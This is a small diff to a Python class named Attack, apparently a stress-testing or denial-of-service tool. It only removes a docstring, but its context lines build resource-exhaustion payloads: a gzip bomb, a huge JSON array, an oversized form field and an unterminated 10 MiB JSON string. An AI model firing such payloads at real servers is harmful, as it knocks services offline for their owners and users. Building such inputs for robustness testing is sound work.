@@ -89,7 +89,6 @@ class Attack:
     statuses: Counter[str] = field(default_factory=Counter)
 
     async def run(self) -> None:
-        """Attack until it is cancelled."""
         dicts = b"[" + b"{}," * MIB + b"{}]"
         bomb = gzip.compress(bytes(256 * MIB), 9)
         fields, text = b"a=" * (5 * MIB), b'{"content": "' + b"a" * (10 * MIB)
